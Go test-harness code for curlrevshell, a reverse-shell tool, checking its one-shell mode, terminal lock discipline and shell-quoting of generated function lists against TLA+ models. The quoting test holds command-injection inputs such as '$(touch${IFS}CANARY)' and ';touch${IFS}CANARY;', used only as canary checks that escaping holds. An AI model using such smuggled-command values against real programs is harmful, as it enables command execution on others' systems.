			} else {
				time.Sleep(150 * time.Millisecond)
				if ex, st := p.Exited(); ex {
					div(i, "exits-early", "the program exited (status %d) although the specification still has %s", st, map[bool]string{true: "a shell attached", false: "no finished shell"}[from.In || from.Out])
					return
				}
			}
		}
		if exited {
			break
		}
		if ex, st := p.Exited(); ex {
			div(i, "exits-early", "the program exited (status %d) after %s", st, a.N)
			return
		}
	}
	last := parseOS(g.Edges[walk[len(walk)-1]].ToState)
	for _, h := range held { // connections still in flight would keep the graceful shutdown waiting (up to 5 s)
		h.c.Close()
	}
	held = nil
	if !exited && last.Gone && !last.In && !last.Out {
		// the shell is gone: once the server has noticed (it polls at most 500 ms apart),
		// the operator's next line ends the program, with success
		time.Sleep(1200 * time.Millisecond)
		ex, st := p.Exited()
		if !ex {
			p.Type([]byte("\r"))
			ex, st = p.WaitExit(8 * time.Second)
		}
		if !ex {
			div(len(walk), "does-not-exit", "the program did not exit after the shell ended and the operator entered a line; %s", quitDump(p))
		} else {
			exited = true
			if st != 0 {
				div(len(walk), "exit-status", "exit status %d", st)
			}
		}
	}
	if goneAt >= 0 {
		if bytes.Contains(p.Output()[goneAt:], []byte("To get a shell")) {
			div(len(walk), "help-after-gone", "the callback help was printed again after the shell of a -one-shell run had ended")
		}
	}
	if exited {
		if !bytes.Contains(p.Output(), []byte("Goodbye.")) {
			div(len(walk), "exit-status", "no farewell message")
		}
		if t1, err := p.Termios(); err == nil && p.Termios0 != nil && *t1 != *p.Termios0 {
			div(len(walk), "terminal-not-restored", "termios after exit differs from termios before start")
		}
	}
	return
}

func oneShellCampaign(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "oneshell-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	bin, err := buildBinary(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	cfg := "OneShell_q"
	if r.Tier == "thorough" {
		cfg = "OneShell_t"
	}
	g := graph.New()
	var mu sync.Mutex
	res, err := tlcrun.Run(tlcrun.Opts{Module: "OneShell", Config: cfg, Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	r.Append("tlc_invariants_checked", "OneShell: ClosedOnlyAfterFull OpenWhileNotFull NoHelpAfterGone ExitsWithSuccess StaysWhileShellAttached ShellUndisturbed LateShellServed; liveness ClosesAfterFull ExitsAtNextLine")
	g.SetInitByNoIncoming()
	rng := rand.New(rand.NewSource(r.Seed))
	walks := g.CoveringWalks(rng, 14)
	type job struct {
		walk   []int
		divs   []osDiv
		labels []string
		err    error
		seed   int64
	}
	jobs := make([]*job, len(walks))
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i, w := range walks {
		jobs[i] = &job{walk: w, seed: r.Seed*131 + int64(i)}
		wg.Add(1)
		sem <- struct{}{}
		go func(j *job) {
			defer wg.Done()
			defer func() { <-sem }()
			j.divs, j.labels, j.err = oneShellWalk(bin, g, j.walk, j.seed)
		}(jobs[i])
	}
	wg.Wait()
	seen := map[string]bool{}
	distinct := map[string]bool{}
	for _, j := range jobs {
		if j.err != nil {
			r.Inconclusive("one-shell walk: %v", j.err)
			continue
		}
		if strings.Contains(strings.Join(j.labels, " "), "Attach") {
			distinct[strings.Join(j.labels, " ")] = true
		}
		for _, d := range j.divs {
			if seen[d.aspect] {
				continue
			}
			ok := 0
			for k := 0; k < 3; k++ {
				d2, _, err := oneShellWalk(bin, g, j.walk, j.seed)
				if err == nil {
					for _, x := range d2 {
						if x.aspect == d.aspect {
							ok++
							break
						}
					}
				}
			}
			if ok == 0 {
				// three further executions of the same walk behave: a transient of this machine, not a verdict
				fmt.Printf("note: %s seen once and not again in three re-runs of %v (%s)\n", d.aspect, j.labels, d.desc)
				r.Add("transients_not_reproduced", 1)
				continue
			}
			if ok < 2 {
				r.Inconclusive("divergence %s reproduced only once in three re-runs: %s (%v)", d.aspect, d.desc, j.labels)
				continue
			}
			seen[d.aspect] = true
			r.Violation(d.aspect, map[string]any{"kind": "OneShell-walk on the real binary", "desc": d.desc, "step": d.step, "labels": j.labels, "seed": j.seed})
		}
	}
	for i := 0; i < 3 && i < len(jobs); i++ {
		r.Sample(jobs[(i*7)%len(jobs)].labels)
	}
	r.Add("evaluations", len(jobs))
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", len(jobs))
	r.Set("exhaustive", true)
	r.Rule("walks covering every edge of OneShell.tla's TLC graph (arrival orders in/out, out/in, /io; refused and dropped half-attached attempts beforehand; probes of the listening socket; traffic both ways; each way the shell may end; operator lines; clients that connected before the listener closed and send their /io request after the first shell has gone, forming a further shell) are replayed with the real binary started with -one-shell on a pty and real TLS clients: connect(2) must succeed while no shell is fully attached and be refused within 3 s after the ready notice and stay refused, traffic must keep flowing through the surviving shell, no callback help after the shell is gone, and the program must exit with status 0, a farewell and the terminal restored at the operator's next line; non-trivial = distinct walks that attach a stream")
	r.Assume("'shortly' is bounded by 3 s, 'at the next line' by 8 s; an implementation that is ahead of the specification's silent steps is accepted")
}

func tailBytes(b []byte, n int) string {
	if len(b) > n {
		b = b[len(b)-n:]
	}
	return string(b)
}

// quitDump asks the stuck program for its goroutine stacks.
func quitDump(p *ptyx.Proc) string {
	before := len(p.Output())
	p.Cmd.Process.Signal(syscall.SIGQUIT)
	time.Sleep(400 * time.Millisecond)
	out := p.Output()
	return fmt.Sprintf("terminal before: %q; stacks: %s", tailBytes(out[:before], 500), strings.ReplaceAll(string(out[before:]), "\r", ""))
}
