package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C18", "exploration", tablistCampaign)
}

var tlSpell = map[string][]string{
	"q": {"'"}, "bs": {"\\"}, "dollar": {"$", "$(touch${IFS}CANARY)", "${HOME}", "$0"}, "bt": {"`", "`touch${IFS}CANARY`"},
	"dq": {"\""}, "semi": {";", ";touch${IFS}CANARY;"}, "amp": {"&", "&&"}, "pipe": {"|", "||"}, "lp": {"("}, "rp": {")"},
	"lt": {"<"}, "gt": {">", ">CANARY"}, "sp": {" "}, "hash": {"#"}, "bang": {"!"}, "star": {"*", "?", "[a-z]*"},
	"other": {"a", "Z9", "touch", "CANARY", "é", "x=1", "-n", "~"},
	"ctrl":  {"\x01", "\x1b", "\x7f", "\r", "\t", "\v", "\f", "\b"},
	"high":  {"\xff", "\x80", "\xc3", "\xfe\xff"},
}

type tlCase struct {
	Row     []string `json:"row"`
	Escaped []string `json:"escaped"`
}

func tlConcrete(c tlCase, rng *rand.Rand) string {
	var sb strings.Builder
	for _, cl := range c.Row {
		sp := tlSpell[cl]
		sb.WriteString(sp[rng.Intn(len(sp))])
	}
	return sb.String()
}

// tlExpectedRow computes (name, desc) as the statement describes them.
func tlExpectedRow(text string) (string, string, bool) {
	line := strings.TrimSpace(text)
	if line == "" {
		return "", "", false
	}
	name, desc, _ := strings.Cut(line, " ")
	return strings.TrimSpace(name), strings.TrimSpace(desc), true
}

func tlClean(s string) bool { return !strings.ContainsAny(s, "\t\v\f\xff") }

type tlBatch struct {
	texts []string
}

type tlResult struct {
	key    string
	detail map[string]any
}

const tlStub = `echo() { printf '%s\0%s\0' "$#" "$1"; }
. ./payload.sh
tab_list
`

func tlRun(scratch string, idx int, b tlBatch) []tlResult {
	dir, err := os.MkdirTemp(scratch, "tl")
	if err != nil {
		return nil
	}
	defer os.RemoveAll(dir)
	var payload bytes.Buffer
	payload.WriteString("f() { :; }\n")
	clean := true
	for _, t := range b.texts {
		payload.WriteString(shellfuncsfile.DocPrefix + t + "\n")
		if !tlClean(t) {
			clean = false
		}
	}
	gen, err := shellfuncsfile.GenFuncList(payload.String())
	var out []tlResult
	bad := func(key string, d map[string]any) {
		d["texts"] = b.texts
		out = append(out, tlResult{key, d})
	}
	if err != nil {
		bad("generator-error", map[string]any{"error": err.Error()})
		return out
	}
	// structure of the generated text: every quote inside a row is part of '\''
	var intended []string
	parsed := true
	for _, l := range strings.Split(string(gen), "\n") {
		tl := strings.TrimLeft(l, " \t")
		if !strings.HasPrefix(tl, "echo ") {
			continue
		}
		body := strings.TrimPrefix(tl, "echo ")
		if len(body) < 2 || body[0] != '\'' || body[len(body)-1] != '\'' {
			parsed = false
			break
		}
		inner := body[1 : len(body)-1]
		if strings.Contains(strings.ReplaceAll(inner, `'\''`, ""), "'") {
			bad("quote-not-escaped", map[string]any{"line": l})
			return out
		}
		intended = append(intended, strings.ReplaceAll(inner, `'\''`, "'"))
	}
	os.WriteFile(filepath.Join(dir, "payload.sh"), append(append(payload.Bytes(), '\n'), gen...), 0o644)
	os.WriteFile(filepath.Join(dir, "run.sh"), []byte(tlStub), 0o644)
	// expected rows for payloads free of the tab-writer's control bytes
	type pair struct{ name, desc string }
	want := map[pair]bool{{"tab_list", "This function list"}: true}
	for _, t := range b.texts {
		if n, d, ok := tlExpectedRow(t); ok {
			want[pair{n, d}] = true
		}
	}
	for _, sh := range []string{"dash", "bash"} {
		cmd := exec.Command(sh, "run.sh")
		cmd.Dir = dir
		cmd.Env = []string{"PATH=/usr/bin:/bin", "LC_ALL=C", "HOME=" + dir}
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		done := make(chan error, 1)
		if err := cmd.Start(); err != nil {
			continue
		}
		go func() { done <- cmd.Wait() }()
		var werr error
		select {
		case werr = <-done:
		case <-time.After(20 * time.Second):
			cmd.Process.Kill()
			werr = fmt.Errorf("timeout")
		}
		ents, _ := os.ReadDir(dir)
		for _, e := range ents {
			if e.Name() != "payload.sh" && e.Name() != "run.sh" {
				bad("code-executed", map[string]any{"shell": sh, "created": e.Name()})
				return out
			}
		}
		if werr != nil || stderr.Len() != 0 {
			bad("shell-rejects-function", map[string]any{"shell": sh, "error": fmt.Sprint(werr), "stderr": stderr.String()})
			return out
		}
		parts := strings.Split(stdout.String(), "\x00")
		if len(parts) > 0 && parts[len(parts)-1] == "" {
			parts = parts[:len(parts)-1]
		}
		if len(parts)%2 != 0 {
			bad("row-not-one-word", map[string]any{"shell": sh, "output": stdout.String()})
			return out
		}
		var rows []string
		for i := 0; i < len(parts); i += 2 {
			if parts[i] != "1" {
				bad("row-not-one-word", map[string]any{"shell": sh, "argc": parts[i], "row": parts[i+1]})
				return out
			}
			rows = append(rows, parts[i+1])
		}
		if parsed {
			if len(rows) != len(intended) {
				bad("row-count", map[string]any{"shell": sh, "rows": rows, "intended": intended})
				return out
			}
			for i := range rows {
				if rows[i] != intended[i] {
					bad("row-altered-by-shell", map[string]any{"shell": sh, "got": rows[i], "intended": intended[i]})
					return out
				}
			}
		}
		if clean {
			got := map[pair]bool{}
			for _, rw := range rows {
				i := strings.IndexByte(rw, ' ')
				if i < 0 {
					bad("row-fidelity", map[string]any{"shell": sh, "row": rw, "why": "no separator"})
					return out
				}
				rest := strings.TrimLeft(rw[i:], " ")
				if !strings.HasPrefix(rest, "- ") && rest != "-" {
					bad("row-fidelity", map[string]any{"shell": sh, "row": rw, "why": "no '- ' after the name"})
					return out
				}
				got[pair{rw[:i], strings.TrimPrefix(strings.TrimPrefix(rest, "-"), " ")}] = true
			}
			if len(got) != len(want) {
				bad("row-fidelity", map[string]any{"shell": sh, "rows": rows, "want_n": len(want), "got_n": len(got)})
				return out
			}
			for p := range want {
				if !got[p] {
					bad("row-fidelity", map[string]any{"shell": sh, "missing_name": p.name, "missing_desc": p.desc, "rows": rows})
					return out
				}
			}
			if !sort.StringsAreSorted(rows) {
				bad("rows-not-sorted", map[string]any{"shell": sh, "rows": rows})
				return out
			}
			for i := 1; i < len(rows); i++ {
				if rows[i] == rows[i-1] {
					bad("rows-not-distinct", map[string]any{"shell": sh, "rows": rows})
					return out
				}
			}
		}
	}
	return out
}

func tablistCampaign(r *ev.Run) {
	cfg, per := "TabList_q", 60
	if r.Tier == "thorough" {
		cfg = "TabList_t"
	}
	var mu sync.Mutex
	cases := map[string]tlCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "TabList", Config: cfg, Workers: 8, Timeout: 30 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c tlCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Append("tlc_invariants_checked", "TabList: OneLiteralWord EndsUnquoted NothingExposed OnlyQuoteEscapes on every row of the class alphabet up to the bound")
	r.Set("tlc_rows", len(cases))
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	rng := rand.New(rand.NewSource(r.Seed))
	rng.Shuffle(len(keys), func(i, j int) { keys[i], keys[j] = keys[j], keys[i] })
	// batches: rows become tagged lines of one payload; duplicates and empty tags are mixed in
	var batches []tlBatch
	var cur tlBatch
	nrows := 0
	for _, k := range keys {
		c := cases[k]
		text := tlConcrete(c, rng)
		switch rng.Intn(4) {
		case 0:
			text = " " + text
		case 1:
			text = fmt.Sprintf(" fn%d ", nrows) + text
		}
		cur.texts = append(cur.texts, text)
		nrows++
		if rng.Intn(10) == 0 {
			cur.texts = append(cur.texts, text) // duplicate
		}
		if rng.Intn(15) == 0 {
			cur.texts = append(cur.texts, []string{"", "   ", " \t "}[rng.Intn(3)])
		}
		if len(cur.texts) >= per {
			batches = append(batches, cur)
			cur = tlBatch{}
		}
	}
	if len(cur.texts) > 0 {
		batches = append(batches, cur)
	}
	// payloads without any tab-writer control byte, so that row fidelity is exercised as well
	for i := 0; i < len(batches)/2+1; i++ {
		var b tlBatch
		for k := 0; k < per; k++ {
			c := cases[keys[rng.Intn(len(keys))]]
			t := tlConcrete(c, rng)
			if !tlClean(t) {
				continue
			}
			b.texts = append(b.texts, fmt.Sprintf(" n%d%s ", rng.Intn(50), []string{"", "'", "\\"}[rng.Intn(3)])+t)
		}
		batches = append(batches, b)
	}
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "tablist-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	// self-test: an unescaped quote must be noticed by the shell leg
	if !tlSelfTest(r, scratch) {
		return
	}
	var all []tlResult
	var amu sync.Mutex
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i, b := range batches {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int, b tlBatch) {
			defer wg.Done()
			defer func() { <-sem }()
			rs := tlRun(scratch, i, b)
			amu.Lock()
			all = append(all, rs...)
			amu.Unlock()
		}(i, b)
	}
	wg.Wait()
	sort.Slice(all, func(i, j int) bool { return all[i].key < all[j].key })
	for _, f := range all {
		r.Violation(f.key, f.detail)
	}
	ntexts := 0
	distinct := map[string]bool{}
	for _, b := range batches {
		for _, t := range b.texts {
			ntexts++
			if strings.TrimSpace(t) != "" {
				distinct[t] = true
			}
		}
	}
	if len(batches) > 0 {
		r.Sample(map[string]any{"tagged_lines": batches[0].texts[:min(5, len(batches[0].texts))]})
	}
	r.Add("evaluations", ntexts)
	r.Add("distinct_nontrivial", len(distinct))
	r.Set("payloads", len(batches))
	r.Set("shell_runs", 2*len(batches))
	r.Rule("TLC enumerates every row over 19 character classes up to the length bound and checks on TabList.tla's lexer automaton that the escaped row is one literal word; each row is concretised (seeded spellings incl. command substitutions that would create a canary file), put after the tag in payloads of ~60 tagged lines with duplicates and empty tags, GenFuncList's output is checked for unescaped quotes and then sourced by real dash and bash with echo replaced by a printf stub: one word per row, rows as intended, no file created; payloads free of TAB/VT/FF/0xFF additionally must list exactly the expected (name, description) pairs, sorted and distinct; non-trivial = distinct non-empty tagged texts")
	r.Assume("dash and bash as installed stand for 'a POSIX shell'")
}

func tlSelfTest(r *ev.Run, scratch string) bool {
	dir, err := os.MkdirTemp(scratch, "self")
	if err != nil {
		return false
	}
	defer os.RemoveAll(dir)
	os.WriteFile(filepath.Join(dir, "payload.sh"), []byte("tab_list() {\n        echo 'a'; touch CANARY; echo 'b'\n}\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "run.sh"), []byte(tlStub), 0o644)
	cmd := exec.Command("dash", "run.sh")
	cmd.Dir = dir
	cmd.Run()
	if _, err := os.Stat(filepath.Join(dir, "CANARY")); err != nil {
		r.Inconclusive("self-test: a function with an unescaped quote did not create the canary")
		return false
	}
	r.Append("selftest", "a hand-broken tab_list whose quoting ends early creates the canary file under dash")
	return true
}
