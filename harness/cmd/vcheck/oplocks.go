package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

// The lock discipline of the operator's terminal (OpshellLocks.tla), C19's "for every timing of
// Ctrl+O relative to bursts of shell output": walks of the specification are stepped through the
// real lib/opshell with the guarded observation points around Shell.wL used as gates, and a
// free-running flood with Ctrl+O typed into it must leave the terminal alive.

type olAct struct {
	P string `json:"p"`
	N string `json:"n"`
}

type olDiv struct {
	aspect, desc string
	step         int
	labels       []string
}

type olProc struct {
	p    *ptyx.Proc
	wr   *os.File
	mu   sync.Mutex
	at   map[string]int
	cond *sync.Cond
}

func olStart(helper string) (*olProc, error) {
	crd, cwr, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	nrd, nwr, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	p, err := ptyx.Start(helper, nil, ptyx.Opts{ExtraFiles: []*os.File{crd, nwr}})
	crd.Close()
	nwr.Close()
	if err != nil {
		cwr.Close()
		nrd.Close()
		return nil, err
	}
	o := &olProc{p: p, wr: cwr, at: map[string]int{}}
	o.cond = sync.NewCond(&o.mu)
	go func() {
		sc := bufio.NewScanner(nrd)
		for sc.Scan() {
			if pt, ok := strings.CutPrefix(sc.Text(), "AT "); ok {
				o.mu.Lock()
				o.at[pt]++
				o.cond.Broadcast()
				o.mu.Unlock()
			}
		}
		nrd.Close()
	}()
	dl := time.Now().Add(10 * time.Second)
	for !bytes.Contains(p.Output(), []byte("<READY>")) {
		if time.Now().After(dl) {
			o.close()
			return nil, fmt.Errorf("helper did not come up: %q %q", p.Output(), p.Stderr())
		}
		time.Sleep(time.Millisecond)
	}
	return o, nil
}

func (o *olProc) close() {
	o.wr.Close()
	o.p.Close()
}

func (o *olProc) cmd(format string, a ...any) { fmt.Fprintf(o.wr, format+"\n", a...) }

// waitAt consumes one report of a goroutine having reached point.
func (o *olProc) waitAt(point string, d time.Duration) bool {
	dl := time.Now().Add(d)
	t := time.AfterFunc(d+10*time.Millisecond, func() { o.mu.Lock(); o.cond.Broadcast(); o.mu.Unlock() })
	defer t.Stop()
	o.mu.Lock()
	defer o.mu.Unlock()
	for o.at[point] == 0 {
		if time.Now().After(dl) {
			return false
		}
		o.cond.Wait()
	}
	o.at[point]--
	return true
}

func (o *olProc) shown(s string, d time.Duration) bool {
	_, ok := o.p.WaitFor(regexp.MustCompile(regexp.QuoteMeta(s)), 0, d)
	return ok
}

const olWait = 3 * time.Second

// opLocksWalk steps one behaviour of OpshellLocks.tla through the real opshell.
func opLocksWalk(helper string, g *graph.G, walk []int) (divs []olDiv, infra error) {
	o, err := olStart(helper)
	if err != nil {
		return nil, err
	}
	defer o.close()
	o.cmd("G")
	if !o.waitAt("gating", olWait) {
		return nil, fmt.Errorf("helper does not gate")
	}
	var labels []string
	div := func(i int, aspect, format string, a ...any) {
		divs = append(divs, olDiv{aspect, fmt.Sprintf(format, a...), i, append([]string(nil), labels...)})
	}
	wkind := "plain"
	wmark := ""
	nmark := 0
	stuck := func(i int, who, what string) {
		div(i, "terminal-freezes", "%s: %s within %v (a goroutine is waiting for a lock that the specification says is free); %s", who, what, olWait, olDump(o))
	}
	for i, ei := range walk {
		var a olAct
		json.Unmarshal(g.Edges[ei].Act, &a)
		labels = append(labels, a.N)
		switch a.N {
		case "RKey":
			o.p.Type([]byte{0x0f})
			if !o.waitAt("key", olWait) {
				stuck(i, "key reader", "Ctrl+O was not taken up")
				return
			}
		case "RSpawn":
			o.cmd("R key")
			if !o.waitAt("mute:lock", olWait) {
				stuck(i, "key reader", "the Ctrl+O handling did not start")
				return
			}
		case "RReturn":
			// the key reader is back in ReadLine: nothing to observe but what the later steps show
		case "MLock":
			o.cmd("R mute:lock")
			if !o.waitAt("mute:body", olWait) {
				stuck(i, "Ctrl+O handling", "did not get the write lock")
				return
			}
		case "MBody":
			o.cmd("R mute:body")
			if !o.waitAt("mute:done", olWait) {
				stuck(i, "Ctrl+O handling", "did not finish")
				return
			}
			if !o.waitAt("log:lock", olWait) {
				div(i, "no-muting-announcement", "Ctrl+O was handled but no announcement was started")
				return
			}
		case "WLockPlain", "WLockStatus":
			nmark++
			wmark = fmt.Sprintf("<w%d-%d>", i, nmark)
			if a.N == "WLockPlain" {
				wkind = "plain"
				o.cmd("P %s\\n", wmark)
			} else {
				wkind = "wlog"
				o.cmd("S %s", wmark)
			}
			if !o.waitAt(wkind+":lock", olWait) {
				stuck(i, "output handler", "did not take up the line")
				return
			}
			o.cmd("R %s:lock", wkind)
			if !o.waitAt(wkind+":body", olWait) {
				stuck(i, "output handler", "did not get the write lock")
				return
			}
		case "WSkip":
			o.cmd("R plain:body")
			if !o.waitAt("plain:done", olWait) {
				stuck(i, "output handler", "did not finish a muted chunk")
				return
			}
			if o.shown(wmark, 20*time.Millisecond) {
				div(i, "plain-shown-while-muted", "a chunk of shell output was written to the terminal while muted")
				return
			}
		case "WLockT":
			o.cmd("R %s:body", wkind)
		case "WDone":
			if !o.waitAt(wkind+":done", olWait) {
				stuck(i, "output handler", "did not finish writing to the terminal")
				return
			}
			if !o.shown(wmark, olWait) {
				div(i, map[string]string{"plain": "plain-not-shown", "wlog": "status-line-suppressed"}[wkind], "a line the output handler wrote is not on the terminal")
				return
			}
		case "LLock":
			o.cmd("R log:lock")
			if !o.waitAt("log:body", olWait) {
				stuck(i, "announcement", "did not get the write lock")
				return
			}
		case "LLockT":
			o.cmd("R log:body")
		case "LDone":
			if !o.waitAt("log:done", olWait) {
				stuck(i, "announcement", "did not finish writing to the terminal")
				return
			}
		case "TLock":
			if !o.waitAt("timer:lock", olWait) {
				div(i, "never-unmutes", "the silence timer did not fire within %v of the last suppressed output", olWait)
				return
			}
			o.cmd("R timer:lock")
			if !o.waitAt("timer:body", olWait) {
				stuck(i, "silence timer", "did not get the write lock")
				return
			}
		case "TBody":
			// The timer's function re-arms itself instead of un-muting when it finds that output was
			// suppressed less than a pause ago (a firing that was parked at its gate while a later
			// chunk was suppressed): follow it until it un-mutes.
			announced := false
			for round := 0; round < 4 && !announced; round++ {
				if round > 0 {
					if !o.waitAt("timer:lock", olWait) {
						break
					}
					o.cmd("R timer:lock")
					if !o.waitAt("timer:body", olWait) {
						stuck(i, "silence timer", "did not get the write lock")
						return
					}
				}
				o.cmd("R timer:body")
				if !o.waitAt("timer:done", olWait) {
					stuck(i, "silence timer", "did not finish")
					return
				}
				announced = o.waitAt("log:lock", 400*time.Millisecond)
			}
			if !announced {
				div(i, "never-unmutes", "the silence timer ran after a full pause without shell output and did not announce the end of the mute")
				return
			}
		default:
			return nil, fmt.Errorf("unknown action %q", a.N)
		}
	}
	// whatever the walk left half-done: with all gates open the terminal must still be alive
	o.cmd("U")
	o.cmd("S <alive>")
	if !o.shown("<alive>", olWait) {
		div(len(walk), "terminal-freezes", "with every gate open again a status line is not written within %v; %s", olWait, olDump(o))
	}
	return
}

func olDump(o *olProc) string {
	before := len(o.p.Output()) + len(o.p.Stderr())
	o.p.Cmd.Process.Signal(syscall.SIGQUIT)
	time.Sleep(300 * time.Millisecond)
	all := append(o.p.Output(), o.p.Stderr()...)
	if before > len(all) {
		before = 0
	}
	var keep []string
	for _, l := range strings.Split(strings.ReplaceAll(string(all), "\r", ""), "\n") {
		if strings.HasPrefix(l, "goroutine ") || strings.Contains(l, "opshell.") || strings.Contains(l, "goxterm.") {
			keep = append(keep, strings.TrimSpace(l))
		}
	}
	if len(keep) > 40 {
		keep = keep[:40]
	}
	return "stacks: " + strings.Join(keep, " | ")
}

// floodTrial types Ctrl+O into a continuous flood of shell output on an ungated opshell.
func floodTrial(helper string, offset time.Duration, presses int) (frozen bool, detail string, err error) {
	rd, wr, err := os.Pipe()
	if err != nil {
		return false, "", err
	}
	defer wr.Close()
	p, err := ptyx.Start(helper, nil, ptyx.Opts{ExtraFiles: []*os.File{rd}})
	rd.Close()
	if err != nil {
		return false, "", err
	}
	defer p.Close()
	dl := time.Now().Add(10 * time.Second)
	for !bytes.Contains(p.Output(), []byte("<READY>")) {
		if time.Now().After(dl) {
			return false, "", fmt.Errorf("helper did not come up")
		}
		time.Sleep(time.Millisecond)
	}
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for k := 0; ; k++ {
			select {
			case <-stop:
				return
			default:
			}
			wr.SetWriteDeadline(time.Now().Add(2 * time.Second))
			if _, err := fmt.Fprintf(wr, "P flood line %d\\n\n", k); err != nil {
				return
			}
		}
	}()
	time.Sleep(offset)
	for k := 0; k < presses; k++ {
		p.Type([]byte{0x0f})
		time.Sleep(7 * time.Millisecond)
	}
	time.Sleep(60 * time.Millisecond)
	close(stop)
	<-done
	wr.SetWriteDeadline(time.Time{})
	// a status line gets through whether muted or not
	mark := fmt.Sprintf("<status-after-flood-%d>", offset.Microseconds())
	go fmt.Fprintf(wr, "S %s\n", mark)
	if _, ok := p.WaitFor(regexp.MustCompile(regexp.QuoteMeta(mark)), 0, 6*time.Second); !ok {
		o := &olProc{p: p}
		return true, olDump(o), nil
	}
	// and the mute ends by itself, announced
	if _, ok := p.WaitFor(regexp.MustCompile(`Unmuting`), 0, 5*time.Second); !ok {
		return false, "no Unmuting announcement within 5 s of the end of the flood", nil
	}
	return false, "", nil
}

// opLocksApalache has Apalache discharge the inductive invariant of OpshellLocksInd.tla (the lock
// discipline for any number of key presses, chunks and pending goroutines) and refute the design as
// found.  A stall is noted, not a verdict.
func opLocksApalache(r *ev.Run) {
	dir, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "apalache-oplocks-")
	if err != nil {
		return
	}
	defer os.RemoveAll(dir)
	t0 := time.Now()
	out, _ := exec.Command(filepath.Join(ev.Root(), "spec", "OpshellLocksInd_apalache.sh"), dir).CombinedOutput()
	var outcomes []string
	for _, l := range strings.Split(string(out), "\n") {
		if i := strings.Index(l, "The outcome is: "); i >= 0 {
			outcomes = append(outcomes, strings.Fields(l[i+len("The outcome is: "):])[0])
		}
	}
	switch {
	case len(outcomes) == 3 && outcomes[0] == "NoError" && outcomes[1] == "NoError" && outcomes[2] == "Error":
		r.Set("apalache_lock_discipline", fmt.Sprintf("OpshellLocksInd.tla: Init => IndInv and IndInv /\\ Next => IndInv' discharged for the repaired design with unbounded environment; NoLockCycle refuted within 3 steps for the inline design (%.0f s)", time.Since(t0).Seconds()))
		r.Append("tlc_invariants_checked", "Apalache: OpshellLocksInd IndInv (TypeOK Holds NoLockCycle LockOrder) inductive")
	case len(outcomes) >= 2 && (outcomes[0] == "Error" || outcomes[1] == "Error"):
		r.Inconclusive("Apalache refutes the inductive invariant of OpshellLocksInd.tla (a specification problem, not an implementation verdict): %v", outcomes)
	default:
		r.Set("apalache_lock_discipline", "not discharged in this run (tool stalled or unavailable): "+strings.TrimSpace(string(out)))
	}
}

func opLocksCampaign(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "oplocks-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	gated := filepath.Join(scratch, "opshg")
	plain := filepath.Join(scratch, "opsh")
	if err := goBuild(filepath.Join(ev.Root(), "harness"), "./helpers/opshg", gated, "verif"); err != nil {
		r.Inconclusive("%v", err)
		return
	}
	if err := goBuild(filepath.Join(ev.Root(), "harness"), "./helpers/opsh", plain, ""); err != nil {
		r.Inconclusive("%v", err)
		return
	}
	// the design as found: TLC must find the lock cycle (a specification self-check, not a verdict)
	if res, err := tlcrun.Run(tlcrun.Opts{Module: "OpshellLocks", Config: "OpshellLocks_inline", Workers: 4, Timeout: 5 * time.Minute}); err == nil && res.Violated == "NoLockCycle" {
		r.Set("tlc_finds_lock_cycle_when_callback_takes_wL_inline", "OpshellLocks_inline.cfg: NoLockCycle violated after RKey, WLock(plain)")
	} else {
		r.Inconclusive("OpshellLocks_inline.cfg: TLC did not report the lock cycle of the inline design (err=%v violated=%q)", err, resViolated(res))
	}
	cfg, perWalk, limit, trials := "OpshellLocks_q", 30, 400, 24
	if r.Tier == "thorough" {
		cfg, perWalk, limit, trials = "OpshellLocks_t", 40, 4000, 120
		opLocksApalache(r)
	}
	g := graph.New()
	var mu sync.Mutex
